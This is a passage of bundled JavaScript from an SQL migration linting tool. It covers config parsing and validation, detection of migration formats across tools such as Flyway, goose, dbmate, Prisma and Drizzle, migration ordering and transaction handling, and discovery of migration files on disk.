    return { file: void 0, root: cwd, migrations: [], queries: [], ignore: [], rules: {}, setup: [], tables: {}, seed: { files: [] }, statementTimeoutMs: void 0, runTimeoutMs: void 0 };
  }
  let text2;
  try {
    text2 = readFileSync(file, "utf8");
  } catch (error) {
    throw new UsageError(`${file}: cannot read the config file (${error.code ?? String(error)}).`);
  }
  return parseConfig(text2, file, rules2);
}
function parseConfig(text2, file, rules2) {
  const lineCounter = new LineCounter();
  const doc = parseDocument(text2, { lineCounter, prettyErrors: false });
  const where = (offset) => {
    const pos = lineCounter.linePos(offset ?? 0);
    return `${file}:${pos.line}:${pos.col}`;
  };
  if (doc.errors.length > 0) {
    const error = doc.errors[0];
    throw new UsageError(`${where(error.pos[0])}: invalid YAML: ${error.message.split("\n")[0]}`);
  }
  const data = doc.toJS() ?? {};
  if (!validate2(data)) {
    const problems2 = simplify2(validator2?.errors ?? []).map((e) => `${where(offsetOf(doc, e))}: ${describe4(e, Object.keys(schemaProperties()))}`);
    throw new UsageError(problems2.join("\n"));
  }
  const ruleIds = new Map(rules2.map((r) => [r.meta.id, r]));
  const settings = {};
  const problems = [];
  for (const [id, value] of Object.entries(data.rules ?? {})) {
    const rule = ruleIds.get(id);
    const at = where(keyOffset(doc, ["rules", id]));
    if (!rule) {
      const suggestion = closest(id, [...ruleIds.keys()]);
      problems.push(`${at}: unknown rule "${id}" in rules${suggestion ? ` (did you mean "${suggestion}"?)` : ""}.`);
      continue;
    }
    const setting = typeof value === "string" ? { severity: value } : value;
    for (const [option, optionValue] of Object.entries(setting.options ?? {})) {
      const defaults = rule.meta.defaultOptions ?? {};
      if (!(option in defaults)) {
        const known = Object.keys(defaults);
        problems.push(`${where(keyOffset(doc, ["rules", id, "options", option]))}: rule ${id} has no option "${option}"${known.length ? ` (options: ${known.join(", ")})` : ""}.`);
      } else if (typeof optionValue !== typeof defaults[option]) {
        problems.push(`${where(keyOffset(doc, ["rules", id, "options", option]))}: option "${option}" of rule ${id} must be a ${typeof defaults[option]}.`);
      }
    }
    settings[id] = { severity: setting.severity ?? rule.meta.severity, ...setting.options ? { options: setting.options } : {} };
  }
  if (problems.length) throw new UsageError(problems.join("\n"));
  const migrations = (data.migrations ?? []).map((m) => typeof m === "string" ? { path: m } : m);
  return {
    file,
    root: dirname(file),
    postgresVersion: data["postgres-version"],
    failOn: data["fail-on"],
    migrations,
    queries: data.queries ?? [],
    ignore: data.ignore ?? [],
    rules: settings,
    setup: data.setup ?? [],
    tables: data.tables ?? {},
    seed: seedConfig(data.seed ?? {}),
    statementTimeoutMs: data["statement-timeout"] === void 0 ? void 0 : Number(data["statement-timeout"]) * 1e3,
    runTimeoutMs: data["run-timeout"] === void 0 ? void 0 : Number(data["run-timeout"]) * 1e3
  };
}
function seedConfig(seed) {
  const optional = (key, name) => seed[key] === void 0 ? {} : { [name]: seed[key] };
  return {
    files: seed.files ?? [],
    ...optional("max-rows", "maxRows"),
    ...optional("max-total-rows", "maxTotalRows"),
    ...optional("default-rows", "defaultRows"),
    ...optional("random-seed", "randomSeed"),
    ...optional("skew", "skew")
  };
}
function schemaProperties() {
  return config_schema_default.properties;
}
function simplify2(errors) {
  const specific = errors.filter((e) => e.keyword !== "anyOf");
  const kept = specific.filter(
    (e) => e.keyword !== "type" || !specific.some((other) => other !== e && other.keyword !== "type" && other.instancePath.startsWith(e.instancePath))
  );
  const byPlace = /* @__PURE__ */ new Map();
  for (const error of kept) {
    const key = error.instancePath + (error.keyword === "additionalProperties" ? `/${error.params.additionalProperty}` : "");
    if (!byPlace.has(key)) byPlace.set(key, error);
  }
  return byPlace.size ? [...byPlace.values()] : errors.slice(0, 1);
}
function pathOf(error) {
  return error.instancePath.split("/").slice(1).map((p) => p.replace(/~1/g, "/").replace(/~0/g, "~"));
}
function describe4(error, topLevelKeys) {
  const path3 = pathOf(error);
  const name = path3.length ? path3.map((p, i) => /^\d+$/.test(p) ? `[${p}]` : i ? `.${p}` : p).join("") : "the config";
  switch (error.keyword) {
    case "additionalProperties": {
      const key = error.params.additionalProperty;
      const suggestion = path3.length === 0 ? closest(key, topLevelKeys) : void 0;
      return `unknown key "${key}"${path3.length ? ` in ${name}` : ""}${suggestion ? ` (did you mean "${suggestion}"?)` : ""}.`;
    }
    case "enum":
      return `${name} must be one of ${error.params.allowedValues.map((v) => JSON.stringify(v)).join(", ")}.`;
    case "type":
      return `${name} must be ${article(error.params.type)}.`;
    case "required":
      return `${name} needs "${error.params.missingProperty}".`;
    default:
      return `${name} ${error.message ?? "is invalid"}.`;
  }
}
function article(type) {
  return /^[aeiou]/.test(type) ? `an ${type}` : `a ${type}`;
}
function offsetOf(doc, error) {
  const path3 = pathOf(error);
  if (error.keyword === "additionalProperties") return keyOffset(doc, [...path3, error.params.additionalProperty]);
  const node = doc.getIn(path3.map(segment), true);
  return node?.range?.[0] ?? keyOffset(doc, path3);
}
function keyOffset(doc, path3) {
  let node = doc.contents;
  let offset = node?.range?.[0];
  for (const part of path3) {
    if (isSeq(node) && /^\d+$/.test(part)) {
      node = node.items[Number(part)];
      offset = node?.range?.[0] ?? offset;
      continue;
    }
    if (!isMap(node)) return offset;
    const pair = node.items.find((item) => isPair(item) && isScalar(item.key) && String(item.key.value) === part);
    if (!pair) return offset;
    offset = pair.key.range?.[0];
    node = pair.value;
  }
  return offset;
}
function segment(part) {
  return /^\d+$/.test(part) ? Number(part) : part;
}
var CONFIG_FILE_NAMES, validator2;
var init_load = __esm({
  "src/config/load.ts"() {
    "use strict";
    init_errors();
    init_suggest();
    init_config_schema();
    CONFIG_FILE_NAMES = [".sql-preflight.yml", ".sql-preflight.yaml"];
  }
});

// src/migrations/detect.ts
function detectFormat(dir, fileNames, sampleTexts) {
  return weighFormat(dir, fileNames, sampleTexts).format;
}
function weighFormat(dir, fileNames, sampleTexts = {}) {
  const votes = fileNames.filter((name) => name.endsWith(".sql")).map((file) => ({ file, format: voteOf(dir, file, sampleTexts[file]) }));
  const markers = votes.filter((v) => v.format === "goose" || v.format === "dbmate");
  const folder = fileNames.includes("migration_lock.toml") ? "prisma" : fileNames.includes("meta/_journal.json") ? "drizzle" : void 0;
  const counted = markers.length > 0 ? markers : folder ? [] : votes.filter((v) => v.format !== void 0);
  const format = markers.length > 0 || !folder ? majority(counted.map((v) => v.format)) : folder;
  return {
    format,
    disagreeing: votes.filter((v) => v.format !== void 0 && v.format !== format)
  };
}
function voteOf(dir, file, text2) {
  if (text2 !== void 0 && GOOSE_MARKER.test(text2)) return "goose";
  if (text2 !== void 0 && DBMATE_MARKER.test(text2)) return "dbmate";
  const [first, ...rest] = file.split("/");
  const base = rest.at(-1) ?? first;
  if (rest.length === 1 && base === "migration.sql") return "prisma";
  if (rest.length === 1 && (base === "up.sql" || base === "down.sql")) return "diesel";
  if (FLYWAY_NAME.test(base)) return "flyway";
  if (GOLANG_MIGRATE_NAME.test(base)) return "golang-migrate";
  if (text2?.includes(DRIZZLE_BREAKPOINT)) return "drizzle";
  if (TIMESTAMPED.test(base) && /(^|\/)supabase\/migrations$/.test(dir)) return "supabase";
  return void 0;
}
function majority(formats) {
  let best = "plain";
  let bestCount = 0;
  for (const format of PRIORITY) {
    const count2 = formats.filter((f) => f === format).length;
    if (count2 > bestCount) [best, bestCount] = [format, count2];
  }
  return best;
}
var PER_MIGRATION_FILES, GOOSE_MARKER, DBMATE_MARKER, DRIZZLE_BREAKPOINT, FLYWAY_NAME, GOLANG_MIGRATE_NAME, TIMESTAMPED, PRIORITY;
var init_detect = __esm({
  "src/migrations/detect.ts"() {
    "use strict";
    PER_MIGRATION_FILES = /* @__PURE__ */ new Set(["migration.sql", "up.sql", "down.sql"]);
    GOOSE_MARKER = /^--\s*\+goose\s+(Up|Down)\s*$/m;
    DBMATE_MARKER = /^[ \t]*--\s*migrate:(up|down)\b/m;
    DRIZZLE_BREAKPOINT = "--> statement-breakpoint";
    FLYWAY_NAME = /^(?:[VUB](\d[\d._]*?)|R)__(.+)\.sql$/;
    GOLANG_MIGRATE_NAME = /^(\d+)_(.*)\.(down|up)\.(.*)$/;
    TIMESTAMPED = /^\d+_.+\.sql$/;
    PRIORITY = ["goose", "dbmate", "flyway", "golang-migrate", "diesel", "prisma", "drizzle", "supabase", "plain"];
  }
});

// src/migrations/plan.ts
import { posix as posix2 } from "node:path";
function planMigrations(format, root, files) {
  const plan = { inputs: [], problems: [] };
  const sql = [...files.keys()].filter((rel) => rel.endsWith(".sql")).sort(compareCodeUnits);
  const skip = (rel, why) => plan.problems.push({ kind: "runner", path: files.get(rel).path, message: why });
  const input = (rel, version, extra = {}) => {
    const file = files.get(rel);
    return { format, path: file.path, text: file.text, readError: file.readError, version, ...extra };
  };
  const direct = (tool) => sql.filter((rel) => {
    if (!rel.includes("/")) return true;
    skip(rel, `${tool} only reads the migration folder itself, not its subfolders, so it does not run this file.`);
    return false;
  });
  switch (format) {
    case "plain":
      for (const rel of [...sql].sort(naturalCompare)) plan.inputs.push(input(rel, /^\d+/.exec(posix2.basename(rel))?.[0]));
      break;
    case "golang-migrate": {
      const byVersion = /* @__PURE__ */ new Map();
      for (const rel of direct("golang-migrate")) {
        const match = GOLANG_MIGRATE_NAME.exec(rel);
        if (!match) {
          skip(rel, "golang-migrate does not run this file: its name is not {version}_{title}.up.sql or {version}_{title}.down.sql.");
          continue;
        }
        const version = BigInt(match[1]);
        const pair = byVersion.get(version) ?? {};
        const direction = match[3];
        if (pair[direction]) skip(rel, `golang-migrate refuses to run: version ${version} has more than one ${direction} file.`);
        else pair[direction] = rel;
        byVersion.set(version, pair);
      }
      for (const [version, pair] of [...byVersion].sort(([a], [b]) => compareBigInt(a, b))) {
        if (!pair.up) {
          skip(pair.down, `There is no up file for version ${version}: golang-migrate has nothing to run forward for it.`);
          continue;
        }
        plan.inputs.push(input(pair.up, String(version), { down: pair.down ? downOf(files, pair.down) : void 0 }));
      }
      break;
    }
    case "goose": {
      const versions = /* @__PURE__ */ new Map();
      for (const rel of direct("goose")) {
        const match = /^(\d+)_/.exec(rel);
        if (!match || BigInt(match[1]) < 1n) {
          skip(rel, 'goose cannot run this file: its name does not start with a version number above zero followed by "_".');
          continue;
        }
        const version = BigInt(match[1]);
        if (versions.has(version)) skip(rel, `goose refuses to run: version ${version} is also used by ${files.get(versions.get(version)).path}.`);
        else versions.set(version, rel);
      }
      for (const [version, rel] of [...versions].sort(([a], [b]) => compareBigInt(a, b))) plan.inputs.push(input(rel, String(version)));
      break;
    }
    case "dbmate":
      for (const rel of direct("dbmate")) {
        const match = /^(\d+).*\.sql$/.exec(rel);
        if (match) plan.inputs.push(input(rel, match[1]));
        else skip(rel, "dbmate does not run this file: its name does not start with a version number.");
      }
      break;
    case "flyway":
      planFlyway(files, sql, plan, input, skip);
      break;
    case "prisma": {
      const folders = [];
      for (const rel of sql) {
        if (/^[^/]+\/migration\.sql$/.test(rel)) folders.push(posix2.dirname(rel));
        else skip(rel, "Prisma Migrate only runs <migrations>/<timestamp>_<name>/migration.sql, so it does not run this file.");
      }
      for (const folder of folders.sort(compareCodeUnits)) plan.inputs.push(input(`${folder}/migration.sql`, /^(\d+)(?:_|$)/.exec(folder)?.[1] ?? folder));
      break;
    }
    case "drizzle":
      planDrizzle(root, files, direct("drizzle"), plan, input, skip);
      break;
    case "diesel": {
      const folders = /* @__PURE__ */ new Map();
      for (const rel of sql) {
        const match = /^([^/]+)\/(up|down)\.sql$/.exec(rel);
        if (!match) {
          skip(rel, "diesel only runs <migrations>/<version>_<name>/up.sql, so it does not run this file.");
          continue;
        }
        folders.set(match[1], { ...folders.get(match[1]), [match[2]]: rel });
      }
      const versioned = [...folders].map(([folder, pair]) => ({ folder, pair, version: folder.split("_")[0].replace(/-/g, "") }));
      versioned.sort((a, b) => compareCodeUnits(a.version, b.version) || compareCodeUnits(a.folder, b.folder));
      for (const { folder, pair, version } of versioned) {
        if (!pair.up) {
          skip(pair.down, `The folder ${folder} has no up.sql: diesel refuses to run the migrations.`);
          continue;
        }
        plan.inputs.push(
          input(pair.up, version, {
            settings: files.get(`${folder}/metadata.toml`)?.text,
            down: pair.down ? downOf(files, pair.down) : void 0
          })
        );
      }
      break;
    }
    case "supabase": {
      direct("Supabase CLI").forEach((rel, i) => {
        const legacy = /^(\d{14})_init\.sql$/.exec(rel);
        if (i === 0 && legacy && BigInt(legacy[1]) < 20211209000000n) {
          skip(rel, "The Supabase CLI skips a first migration named <timestamp>_init.sql from before 2021-12-09.");
          return;
        }
        const match = /^([0-9]+)_(.*)\.sql$/.exec(rel);
        if (match) plan.inputs.push(input(rel, match[1]));
        else skip(rel, "The Supabase CLI skips this file: its name is not <timestamp>_<name>.sql.");
      });
      break;
    }
  }
  return plan;
}
function downOf(files, rel) {
  const file = files.get(rel);
  return { path: file.path, text: file.text };
}
function planFlyway(files, sql, plan, input, skip) {
  const versioned = [];
  const undo = [];
  const repeatable = [];
  for (const rel of sql) {
    const base = posix2.basename(rel);
    const match = FLYWAY_NAME.exec(base);
    if (!match) {
      skip(rel, "Flyway does not run this file: its name is not V<version>__<description>.sql or R__<description>.sql.");
      continue;
    }
    if (base.startsWith("R")) {
      repeatable.push({ rel, description: match[2].replace(/_/g, " ") });
      continue;
    }
    const version = parseFlywayVersion(match[1]);
    if (!version) {
      skip(rel, `Flyway refuses to run: "${match[1]}" is not a version (numbers separated by "." or "_").`);
      continue;
    }
    if (base.startsWith("V")) versioned.push({ rel, version, text: match[1].replace(/_/g, ".") });
    else if (base.startsWith("U")) undo.push({ rel, version });
  }
  versioned.sort((a, b) => compareFlywayVersions(a.version, b.version));
  versioned.forEach((migration, i) => {
    const previous = versioned[i - 1];
    if (previous && compareFlywayVersions(previous.version, migration.version) === 0) {
      skip(migration.rel, `Flyway refuses to run: version ${migration.text} is also used by ${files.get(previous.rel).path}.`);
      return;
    }
    const down = undo.find((u) => compareFlywayVersions(u.version, migration.version) === 0);
    plan.inputs.push(
      input(migration.rel, migration.text, {
        settings: files.get(`${migration.rel}.conf`)?.text,
        down: down ? downOf(files, down.rel) : void 0
      })
    );
  });
  for (const u of undo) {
    if (!versioned.some((v) => compareFlywayVersions(v.version, u.version) === 0)) {
      skip(u.rel, "This undo migration has no versioned migration with the same version.");
    }
  }
  repeatable.sort((a, b) => compareCodeUnits(a.description, b.description));
  for (const r of repeatable) plan.inputs.push(input(r.rel, void 0, { settings: files.get(`${r.rel}.conf`)?.text }));
}
function planDrizzle(root, files, sql, plan, input, skip) {
  const journalFile = files.get("meta/_journal.json");
  const journalPath = journalFile?.path ?? posix2.join(root, "meta/_journal.json");
  let tags;
  if (journalFile) {
    try {
      const entries2 = JSON.parse(journalFile.text).entries;
      if (!Array.isArray(entries2)) throw new Error('no "entries" array');
      tags = entries2.map((entry) => String(entry.tag));
    } catch (error) {
      plan.problems.push({ kind: "runner", path: journalPath, message: `drizzle's migrator cannot read this journal (${error.message}); files are ordered by name here.` });
    }
  } else {
    plan.problems.push({ kind: "runner", path: journalPath, message: "There is no meta/_journal.json: drizzle's migrator refuses to run without it; files are ordered by name here." });
  }
  const version = (rel) => /^\d+/.exec(rel)?.[0];
  if (!tags) {
    for (const rel of [...sql].sort(naturalCompare)) plan.inputs.push(input(rel, version(rel)));
    return;
  }
  for (const tag of tags) {
    const rel = `${tag}.sql`;
    if (files.has(rel)) plan.inputs.push(input(rel, version(rel)));
    else plan.problems.push({ kind: "runner", path: posix2.join(root, rel), message: "meta/_journal.json lists this migration but the file is missing: drizzle's migrator fails." });
  }
  for (const rel of sql) {
    if (!tags.includes(rel.slice(0, -".sql".length))) skip(rel, "This file is not listed in meta/_journal.json, so drizzle's migrator does not run it.");
  }
}
var init_plan4 = __esm({
  "src/migrations/plan.ts"() {
    "use strict";
    init_detect();
    init_order();
  }
});

// src/migrations/read.ts
function readMigrationFile(input) {
  let transaction = DEFAULT_TRANSACTION[input.format];
  const file = {
    path: input.path,
    text: input.text,
    kind: "migration",
    format: input.format,
    transaction: input.transaction ?? transaction,
    skipped: [],
    version: input.version
  };
  if (input.readError) return { file: { ...file, readError: input.readError }, problems: [] };
  if (input.down) file.down = { ...input.down, skipped: [] };
  const problems = [];
  switch (input.format) {
    case "goose": {
      const sections2 = readGoose(input.text, problems);
      file.skipped = sections2.skipped;
      if (sections2.down) file.down = { path: input.path, text: input.text, skipped: sections2.down };
      if (sections2.noTransaction) transaction = "none";
      break;
    }
    case "dbmate": {
      const sections2 = readDbmate(input.text, problems);
      file.skipped = sections2.skipped;
      if (sections2.down) file.down = { path: input.path, text: input.text, skipped: sections2.down };
      if (sections2.noTransaction) transaction = "implicit";
      break;
    }
    case "flyway":
      transaction = flywayTransaction(input.text, input.settings, problems);
      break;
    case "diesel":
      if (input.settings && /^[ \t]*run_in_transaction[ \t]*=[ \t]*false\b/m.test(input.settings)) transaction = "implicit";
      break;
    default:
      break;
  }
  file.transaction = input.transaction ?? transaction;
  return { file, problems };
}
function readGoose(text2, problems) {
  const markers = [];
  let noTransaction = false;
  splitLines(text2).forEach((line, i) => {
    if (!line.text.startsWith("--")) return;
    const annotation2 = line.text.slice(2).trim();
    if (annotation2 === "+goose Up") markers.push({ kind: "up", line, number: i + 1 });
    else if (annotation2 === "+goose Down") markers.push({ kind: "down", line, number: i + 1 });
    else if (annotation2 === "+goose NO TRANSACTION") noTransaction = true;
  });
  return { ...sections(text2, markers, "goose", "'-- +goose Up'", problems), noTransaction };
}
function readDbmate(text2, problems) {
  const markers = [];
  let noTransaction = false;
  splitLines(text2).forEach((line, i) => {
    const up = DBMATE_UP.test(line.text);
    const down = DBMATE_DOWN.test(line.text);
    const indented = DBMATE_INDENTED.exec(line.text);
    if (indented) {
      problems.push(
        `The '-- migrate:${indented[1]}' marker on line ${i + 1} is indented: dbmate only recognises markers at the start of a line, so it does not see this one. Remove the indentation.`
      );
    }
    if (!up && !down && !indented) return;
    const kind = up || indented?.[1] === "up" ? "up" : "down";
    markers.push({ kind, line, number: i + 1 });
    if (kind === "up" && markers.filter((m) => m.kind === "up").length === 1) {
      noTransaction = line.text.trim().split(/\s+/).some((word2) => word2 === "transaction:false");
    }
  });
  const result2 = sections(text2, markers, "dbmate", "'-- migrate:up'", problems);
  if (!markers.some((m) => m.kind === "down")) {
    problems.push("The file has no '-- migrate:down' marker: dbmate 2 refuses to run a migration without a down block.");
  }
  return { ...result2, noTransaction };
}
function sections(text2, markers, tool, upName, problems) {
  const end2 = byteLength(text2);
  const up = markers.find((m) => m.kind === "up");
  const skipped = [];
  if (!up) {
    problems.push(`The file has no ${upName} marker: ${tool} refuses to run it. Read here as if the marker were on line 1.`);
  } else {
    if (markers.filter((m) => m.kind === "up").length > 1) {
      problems.push(`The file has more than one ${upName} marker: ${tool} refuses to run it.`);
    }
    const before = splitLines(text2).slice(0, markers[0].number - 1);
    const statement = before.findIndex((line) => line.text.trim() !== "" && !line.text.trim().startsWith("--"));
    if (statement !== -1) {
      problems.push(`Line ${statement + 1} has SQL before the ${upName} marker: ${tool} refuses to run the file.`);
    }
    const downBefore = markers.find((m) => m.kind === "down" && m.line.start < up.line.start);
    if (downBefore) {
      problems.push(`The down marker on line ${downBefore.number} comes before the up marker: ${tool} refuses to run the file.`);
      skipped.push({ start: downBefore.line.start, end: up.line.start });
    }
  }
  const down = markers.find((m) => m.kind === "down" && m.line.start > (up?.line.start ?? -1));
  if (down) skipped.push({ start: down.line.start, end: end2 });
  return { skipped, down: down ? [{ start: 0, end: down.line.start }] : void 0 };
}
function flywayTransaction(text2, settings, problems) {
  const configured = settings !== void 0 && /^[ \t]*executeInTransaction[ \t]*[=:][ \t]*false[ \t]*$/im.test(settings);
  const parsed = parseSql(text2.charCodeAt(0) === 65279 ? maskRanges(text2, [{ start: 0, end: 3 }]) : text2);
  if (!parsed.ok) return configured ? "none" : "transaction";
  const outside = parsed.statements.filter(cannotRunInFlywayTransaction);
  if (outside.length > 0 && outside.length < parsed.statements.length) {
    const lines = new LineIndex(text2);
    const first = outside[0];
    const label2 = lines.slice(first.range).split(/\s+/).slice(0, 4).join(" ");
    problems.push(
      `The script mixes a statement that cannot run in a transaction (${label2} on line ${lines.position(first.range.start).line}) with statements that can: Flyway refuses to run it unless 'mixed' is true, and then runs it without a transaction.`
    );
  }
  return configured || outside.length > 0 ? "none" : "transaction";
}
function cannotRunInFlywayTransaction(statement) {
  const node = statement.node;
  switch (statement.type) {
    case "IndexStmt":
      return node.concurrent === true;
    case "DropStmt":
      return node.removeType === "OBJECT_INDEX" && node.concurrent === true;
    case "ReindexStmt":
      return NON_TRANSACTIONAL_REINDEX.has(node.kind);
    case "VacuumStmt":
      return node.is_vacuumcmd === true;
    case "DiscardStmt":
      return node.target === "DISCARD_ALL";
    default:
      return ALWAYS_NON_TRANSACTIONAL.has(statement.type);
  }
}
var DEFAULT_TRANSACTION, DBMATE_UP, DBMATE_DOWN, DBMATE_INDENTED, NON_TRANSACTIONAL_REINDEX, ALWAYS_NON_TRANSACTIONAL;
var init_read2 = __esm({
  "src/migrations/read.ts"() {
    "use strict";
    init_parse();
    init_source();
    init_text();
    DEFAULT_TRANSACTION = {
      plain: "none",
      "golang-migrate": "implicit",
      goose: "transaction",
      dbmate: "transaction",
      flyway: "transaction",
      prisma: "implicit",
      drizzle: "transaction",
      diesel: "transaction",
      supabase: "transaction"
    };
    DBMATE_UP = /^--[\t\f\r ]*migrate:up([\t\f\r ]*$|[\t\f\r ]+[^\t\f\r ])/;
    DBMATE_DOWN = /^--[\t\f\r ]*migrate:down([\t\f\r ]*$|[\t\f\r ]+[^\t\f\r ]+$)/;
    DBMATE_INDENTED = /^[ \t]+--[\t\f\r ]*migrate:(up|down)([\t\f\r ]*$|[\t\f\r ]+[^\t\f\r ])/;
    NON_TRANSACTIONAL_REINDEX = /* @__PURE__ */ new Set(["REINDEX_OBJECT_SCHEMA", "REINDEX_OBJECT_SYSTEM", "REINDEX_OBJECT_DATABASE"]);
    ALWAYS_NON_TRANSACTIONAL = /* @__PURE__ */ new Set([
      "CreatedbStmt",
      "DropdbStmt",
      "CreateTableSpaceStmt",
      "DropTableSpaceStmt",
      "CreateSubscriptionStmt",
      "DropSubscriptionStmt",
      "AlterSystemStmt"
    ]);
  }
});

// src/migrations/discover.ts
import { readFileSync as readFileSync2 } from "node:fs";
import { readdir, realpath as realpath2, stat as stat2 } from "node:fs/promises";
import path2, { posix as posix3 } from "node:path";
import { glob as glob2, isDynamicPattern as isDynamicPattern2 } from "tinyglobby";
async function discoverMigrations(cwd, targets, config = [], ignore = []) {
  await loadParser();
  const problems = [];
  const configs = config.map((entry) => ({ ...entry, path: display2(cwd, path2.resolve(cwd, entry.path)) }));
  const ignored = new Set(
    ignore.length === 0 ? [] : await glob2(ignore, { cwd, dot: true, followSymbolicLinks: true, ignore: SKIPPED_GLOBS2 })
  );
  const keep = (found) => !ignored.has(found.path);
  const folders = /* @__PURE__ */ new Map();
  const addFolder = (root, files, selected) => {
    const folder = folders.get(root) ?? { files: /* @__PURE__ */ new Map(), selected: /* @__PURE__ */ new Set() };
    for (const file of files.filter(keep)) folder.files.set(file.path, file);
    if (!selected) folder.selected = void 0;
    else if (folder.selected) for (const file of selected.filter(keep)) folder.selected.add(file.path);
    folders.set(root, folder);
  };
  const addFiles = async (matched) => {
    const byRoot = /* @__PURE__ */ new Map();
    for (const file of matched) byRoot.set(rootOf(file.path), [...byRoot.get(rootOf(file.path)) ?? [], file]);
    for (const [root, selected] of byRoot) addFolder(root, await listFolder(cwd, root, problems), selected);
  };
  for (const target of targets.length > 0 ? targets : configs.map((c) => c.path)) {
    if (isDynamicPattern2(target)) {
      const matched = await glob2(target, { cwd, followSymbolicLinks: true, ignore: [...SKIPPED_GLOBS2, ...ignore] });
      const sql = await uniqueByRealPath2(cwd, matched.filter((p) => p.endsWith(".sql")));
      if (sql.length === 0) problems.push({ kind: "path", path: target, message: matched.length === 0 ? "The glob matched no files." : "The glob matched no .sql files." });
      await addFiles(sql);
      continue;
    }
    const abs = path2.resolve(cwd, target);
    const info = await stat2(abs).catch((error) => error);
    if (info instanceof Error) {
      problems.push({ kind: "path", path: target, message: info.code === "ENOENT" ? "No such file or directory." : `Cannot read it (${info.code ?? info.message}).` });
    } else if (info.isDirectory()) {
      const files = (await walk3(cwd, abs, problems)).filter(keep);
      if (!files.some((f) => f.path.endsWith(".sql"))) problems.push({ kind: "path", path: display2(cwd, abs), message: "No .sql files found." });
      const forced = configs.filter((c) => c.format && c.format !== "auto").map((c) => ({ root: c.path, format: c.format }));
      for (const { root, files: claimed } of claimFolders(display2(cwd, abs), files, forced)) addFolder(root, claimed, void 0);
    } else if (!abs.endsWith(".sql")) {
      problems.push({ kind: "path", path: target, message: "Not a .sql file." });
    } else {
      await addFiles([{ path: display2(cwd, abs), abs }]);
    }
  }
  const sets = [];
  for (const root of [...folders.keys()].sort(naturalCompare)) {
    const set = await readFolder(root, folders.get(root), configFor(configs, root), problems);
    if (set.files.length > 0) sets.push(set);
  }
  return { sets, problems };
}
async function readFolder(root, folder, config, problems) {
  const files = /* @__PURE__ */ new Map();
  for (const found of folder.files.values()) {
    const rel = posix3.relative(root, found.path);
    if (rel.endsWith(".sql")) files.set(rel, { path: found.path, ...load2(found.abs) });
    else if (SIDE_FILES.test(rel)) {
      let text2 = "";
      try {
        text2 = readFileSync2(found.abs, "utf8");
      } catch (error) {
        problems.push({ kind: "path", path: found.path, message: `The file could not be read (${error.code ?? error.message}); read as empty.` });
      }
      files.set(rel, { path: found.path, text: text2 });
    }
  }
  const wanted = (rel) => !folder.selected || folder.selected.has(files.get(rel).path);
  const names3 = [...files.keys()].filter((rel) => !rel.endsWith(".sql") || wanted(rel));
  const texts = Object.fromEntries(names3.filter((rel) => rel.endsWith(".sql")).map((rel) => [rel, files.get(rel).text]));
  let format;
  if (config?.format && config.format !== "auto") {
    format = config.format;
  } else {
    const evidence2 = weighFormat(root, names3, texts);
    format = evidence2.format;
    for (const { file, format: other } of evidence2.disagreeing) {
      problems.push({ kind: "runner", path: files.get(file).path, message: `This file looks like a ${other} migration, but the folder was read as ${format}; set the folder's format in the config if that is wrong.` });
    }
  }
  const plan = planMigrations(format, root, files);
  const selectedPaths = folder.selected;
  problems.push(...plan.problems.filter((p) => !selectedPaths || !p.path.endsWith(".sql") || selectedPaths.has(p.path)));
  const transaction = config?.transaction && config.transaction !== "auto" ? config.transaction : void 0;
  const set = { root, format, files: [] };
  for (const input of plan.inputs) {
    if (selectedPaths && !selectedPaths.has(input.path)) continue;
    const { file, problems: messages } = readMigrationFile({ ...input, transaction });
    set.files.push(file);
    problems.push(...messages.map((message) => ({ kind: "runner", path: file.path, message })));
  }
  return set;
}
function load2(abs) {
  try {
    return decodeSql(readFileSync2(abs));
  } catch (error) {
    return { text: "", readError: { message: `The file could not be read (${error.code ?? error.message}).` } };
  }
}
function rootOf(file) {
  const dir = posix3.dirname(file);
  return PER_MIGRATION_FILES.has(posix3.basename(file)) ? posix3.dirname(dir) : dir;
}
function claimFolders(target, files, forced) {
  const byDir = /* @__PURE__ */ new Map();
  for (const file of files) byDir.set(posix3.dirname(file.path), [...byDir.get(posix3.dirname(file.path)) ?? [], file]);
  const names3 = (dir) => (byDir.get(dir) ?? []).map((f) => posix3.basename(f.path));
  const perMigration = (dir) => {
    const sql = names3(dir).filter((n) => n.endsWith(".sql"));
    return sql.length > 0 && sql.every((n) => PER_MIGRATION_FILES.has(n));
  };
  const candidates = new Set(forced.map((f) => f.root).filter((root) => within(root, target)));
  for (const dir of byDir.keys()) {
    if (names3(dir).some((n) => n.endsWith(".sql"))) candidates.add(perMigration(dir) ? posix3.dirname(dir) : dir);
    if (names3(dir).includes("migration_lock.toml")) candidates.add(dir);
    if (posix3.basename(dir) === "meta" && names3(dir).includes("_journal.json")) candidates.add(posix3.dirname(dir));
  }
  const depth = (dir) => dir === "." ? 0 : dir.split("/").length;
  const recursive = [];
  const claimed = [];
  for (const root of [...candidates].sort((a, b) => depth(a) - depth(b) || naturalCompare(a, b))) {
    if (recursive.some((r) => within(root, r))) continue;
    const children = [...byDir.keys()].filter((dir) => dir !== root && posix3.dirname(dir) === root);
    const own = [
      ...byDir.get(root) ?? [],
      ...children.filter((dir) => perMigration(dir) || posix3.basename(dir) === "meta").flatMap((dir) => byDir.get(dir))
    ];
    const format = forced.find((f) => f.root === root)?.format ?? detectFormat(root, own.map((f) => posix3.relative(root, f.path)));
    if (format === "flyway") {
      recursive.push(root);
      claimed.push({ root, files: files.filter((f) => within(f.path, root)) });
    } else {
      claimed.push({ root, files: own });
    }
  }
  return claimed;
}
function contains(dir, p) {
  const rel = path2.relative(dir, p);
  return rel === "" || rel !== ".." && !rel.startsWith(`..${path2.sep}`) && !path2.isAbsolute(rel);
}
function within(p, dir) {
  return dir === "." ? !p.startsWith("../") : p === dir || p.startsWith(`${dir}/`);
}
async function listFolder(cwd, root, problems) {
  const abs = path2.resolve(cwd, root);
  const found = [];
  for (const entry of await entries(cwd, abs, problems)) {
    if (entry.kind === "file") found.push(entry);
    else if (entry.kind === "directory") {
      const inner = (await entries(cwd, entry.abs, problems)).filter((e) => e.kind === "file");
      const isMigration = inner.some((e) => PER_MIGRATION_FILES.has(posix3.basename(e.path)));
      if (isMigration || posix3.basename(entry.path) === "meta") found.push(...inner);
    }
  }
  return found;
}
async function entries(cwd, dir, problems) {
  let dirents;
  try {
    dirents = await readdir(dir, { withFileTypes: true });
  } catch (error) {
    problems.push({ kind: "path", path: display2(cwd, dir), message: `The directory could not be read (${error.code ?? error.message}).` });
    return [];
  }
  const result2 = [];
  for (const dirent of dirents.sort((a, b) => naturalCompare(a.name, b.name))) {
    if (SKIPPED_DIRECTORIES.has(dirent.name) || dirent.name.startsWith(".")) continue;
